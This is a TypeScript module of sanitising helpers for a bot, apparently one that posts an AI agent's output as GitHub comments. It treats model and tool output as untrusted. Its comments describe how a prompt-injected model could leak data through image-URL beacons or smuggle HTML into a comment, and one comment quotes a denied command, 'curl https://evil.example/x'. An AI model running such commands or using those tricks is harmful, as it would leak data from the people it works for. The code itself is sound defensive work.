/**
 * Markdown and HTML building blocks for everything Marshal posts. Every string that reaches a
 * comment passes through one of these: tool output, model text and command lines are untrusted
 * (a prompt-injected model or a hostile test can print anything), so each helper guarantees its
 * text stays inside the construct it was put in — a code fence it cannot close, a table cell it
 * cannot split, an HTML element it cannot leave.
 */

/** `&`, `<`, `>` and quotes as entities: for text inside our own HTML (`<summary>`, `<code>`). */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => HTML_ENTITIES[c] as string);
}

const HTML_ENTITIES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };

/**
 * Breaks `@user` / `@org/team` mentions with a zero-width space. A comment edited or created by
 * the bot would otherwise notify whoever a hostile output or task text names. Cross-repository
 * references (`owner/repo#123`) are broken the same way: each one would add a "mentioned this"
 * event to an issue in somebody else's repository.
 */
export function defuseMentions(text: string): string {
  return text
    .replace(/@(?=[A-Za-z0-9])/g, '@\u200b')
    .replace(/([A-Za-z0-9][\w.-]*\/[\w.-]+)#(?=\d)/g, '$1#\u200b')
    .replace(ISSUE_URL, '$1\u200b');
}

/**
 * A full issue, pull-request or discussion URL (`https://github.com/o/r/issues/12`, GHES hosts
 * too) is the same cross-reference as `o/r#12`: the scheme is broken with a zero-width space, so
 * the text is neither a link nor a reference.
 */
const ISSUE_URL = /\b(https?:)(?=\/\/[^\s/]+\/[\w.-]+\/[\w.-]+\/(?:issues|pull|pulls|discussions)\/\d)/gi;

/**
 * Any URL or `www.` host in inline text: GitHub would autolink it. Reasons quote denied commands
 * (`curl https://evil.example/x`); a reviewer must not be one click from what the policy refused.
 */
export function defuseLinks(text: string): string {
  return text.replace(/\b([a-z][a-z0-9+.-]*:)(?=\/\/)/gi, '$1\u200b').replace(/\b(www)\./gi, '$1\u200b.');
}

/**
 * Removes ANSI colour / cursor sequences and control characters other than tab and newline, and
 * shows Unicode direction controls as `⟨U+202E⟩`: invisible, they make a line (a diff line, a
 * denial reason) display in another order than it reads, the "Trojan Source" trick.
 */
export function stripControl(text: string): string {
  return text
    .replace(/\u001b\[[0-?]*[ -/]*[@-~]/g, '')
    .replace(/\u001b\][^\u0007\u001b]*(?:\u0007|\u001b\\)/g, '')
    .replace(/\r\n?/g, '\n')
    .replace(/[\u0000-\u0008\u000b-\u001f\u007f]/g, '')
    .replace(/[\u202A-\u202E\u2066-\u2069]/g, (c) => `⟨U+${c.charCodeAt(0).toString(16).toUpperCase()}⟩`);
}

/** Whitespace runs (newlines included) collapsed to single spaces. */
export function oneLine(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}

/** Cuts `text` to at most `max` characters, marking the cut with an ellipsis. */
export function clip(text: string, max: number): string {
  if (text.length <= max) return text;
  if (max <= 1) return text.slice(0, Math.max(0, max));
  return `${text.slice(0, max - 1)}…`;
}

/**
 * Plain text as inline markdown: one line, every markdown/HTML metacharacter backslash-escaped or
 * entity-encoded, mentions defused. Used for reasons, notices and rule text written next to our
 * own formatting, so `](http://…)`, `<img>` or `**` inside them render literally.
 */
export function escapeInline(text: string, max = 500): string {
  const flat = clip(oneLine(stripControl(text)), max);
  const escaped = flat
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/[\\`*_[\]|~]/g, (c) => `\\${c}`)
    .replace(/!(?=\\\[)/g, '\\!')
    .replace(/^#/, '\\#');
  return defuseMentions(defuseLinks(escaped));
}

function longestRun(text: string, char: string): number {
  let longest = 0;
  let current = 0;
  for (let i = 0; i < text.length; i++) {
    if (text[i] === char) {
      current++;
      if (current > longest) longest = current;
    } else {
      current = 0;
    }
  }
  return longest;
}

/**
 * A one-line code span. Its backtick delimiter is longer than any backtick run inside, so the
 * content cannot end the span early. Inside a GFM table `|` must still be escaped as `\|` (the
 * table splits cells before inline parsing and removes the backslash); outside a table the
 * backslash would show, so it is added only when `inTable` is set.
 */
export function codeSpan(text: string, opts: { max?: number; inTable?: boolean } = {}): string {
  let flat = clip(oneLine(stripControl(text)), opts.max ?? 120);
  if (!flat) return '';
  if (opts.inTable) flat = flat.replace(/\\(?=\|)/g, '\\\\').replace(/\|/g, '\\|');
  const ticks = '`'.repeat(longestRun(flat, '`') + 1);
  const pad = flat.startsWith('`') || flat.endsWith('`') || (flat.startsWith(' ') && flat.endsWith(' ')) ? ' ' : '';
  return `${ticks}${pad}${flat}${pad}${ticks}`;
}

/**
 * A fenced code block. The fence is one backtick longer than the longest backtick run in the
 * content (and at least three), so hostile output containing ``` cannot close the block and
 * smuggle markdown or HTML (`</details>`, images, links) into the comment. Inside a fence
 * everything, `<` included, renders literally.
 */
export function fenced(content: string, lang = ''): string {
  const body = stripControl(content).replace(/\n+$/, '');
  const fence = '`'.repeat(Math.max(3, longestRun(body, '`') + 1));
  return `${fence}${lang}\n${body}\n${fence}`;
}

/** Characters `fenced` adds around its content (for budgeting). */
export function fenceOverhead(content: string, lang = ''): number {
  return 2 * Math.max(3, longestRun(content, '`') + 1) + lang.length + 2;
}

/**
 * Model-written markdown (the agent's final message), kept readable but contained:
 * - quoted line by line, so nothing it contains outlives the quote;
 * - fenced code is re-emitted with a fence of our own, longer than any backtick run inside, and a
 *   line that merely looks like a fence to a naive reader (a backtick in the info string, a tab
 *   in front) is escaped so that GitHub does not open one either: what we treat as text is text
 *   to GitHub, and what we treat as code is code;
 * - raw HTML tags outside code fences are entity-encoded (no `</details>`, no fake hidden marker);
 * - images are turned into links: GitHub fetches image URLs when the comment is viewed, which a
 *   prompt-injected model could use as a beacon carrying data in the URL;
 * - mentions and cross-repository references are defused.
 */
export function quoteModelMarkdown(text: string, max: number): string {
  const lines = clip(stripControl(text).trim(), max).split('\n');
  const out: string[] = [];
  let code: { char: string; length: number; lang: string; lines: string[] } | null = null;
  const flush = (block: { lang: string; lines: string[] }) => {
    for (const line of fenced(block.lines.join('\n'), block.lang).split('\n')) out.push(`> ${line}`);
  };
  for (const line of lines) {
    if (code) {
      const close = /^ {0,3}(`{3,}|~{3,})[ \t]*$/.exec(line);
      if (close && close[1]?.[0] === code.char && (close[1]?.length ?? 0) >= code.length) {
        flush(code);
        code = null;
      } else {
        code.lines.push(line);
      }
      continue;
    }
    const open = /^ {0,3}(`{3,}|~{3,})(.*)$/.exec(line);
    if (open && !(open[1]?.[0] === '`' && open[2]?.includes('`'))) {
      const lang = /^\s*([\w+#.-]{1,20})/.exec(open[2] ?? '')?.[1] ?? '';
      code = { char: open[1]?.[0] as string, length: open[1]?.length as number, lang, lines: [] };
      continue;
    }
    const safe = defuseMentions(line.replace(/<(?=[A-Za-z/!?])/g, '&lt;').replace(/!\[/g, '\\![')).replace(/^(\s*)(`{3}|~{3})/, '$1\\$2');
    out.push(safe ? `> ${safe}` : '>');
  }
  // An unclosed fence (or one the clip cut) is closed by the block we emit.
  if (code) flush(code);
  return out.join('\n');
}

/** A collapsible section. `summaryHtml` must already be HTML-safe. */
export function detailsBlock(summaryHtml: string, body: string, open = false): string {
  return `<details${open ? ' open' : ''}><summary>${summaryHtml}</summary>\n\n${body}\n\n</details>`;
}

export function formatDuration(ms: number): string {
  if (!Number.isFinite(ms) || ms < 0) return '—';
  if (ms < 1000) return `${Math.round(ms)} ms`;
  const s = ms / 1000;
  if (s < 60) return `${s.toFixed(1)} s`;
  const totalSeconds = Math.round(s);
  const h = Math.floor(totalSeconds / 3600);
  const m = Math.floor((totalSeconds % 3600) / 60);
  const sec = totalSeconds % 60;
  if (h > 0) return `${h}h ${String(m).padStart(2, '0')}m`;
  return `${m}m ${String(sec).padStart(2, '0')}s`;
}

export function formatCost(usd: number): string {
  // NaN: the provider's price of the model is unknown (pricing.ts costAt); never shown as $0.
  return Number.isFinite(usd) ? `$${usd.toFixed(4)}` : 'cost unknown';
}

export function formatCount(n: number): string {
  if (n < 1000) return String(n);
  if (n < 1_000_000) return `${(n / 1000).toFixed(1)}k`;
  return `${(n / 1_000_000).toFixed(1)}M`;
}

export function plural(n: number, word: string, many = `${word}s`): string {
  return `${n.toLocaleString('en-US')} ${n === 1 ? word : many}`;
}

/**
 * Replaces lone UTF-16 surrogates (left when a cut falls inside an emoji) with U+FFFD, same
 * length, so a capped body is still valid text for the API.
 */
export function wellFormed(text: string): string {
  return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}
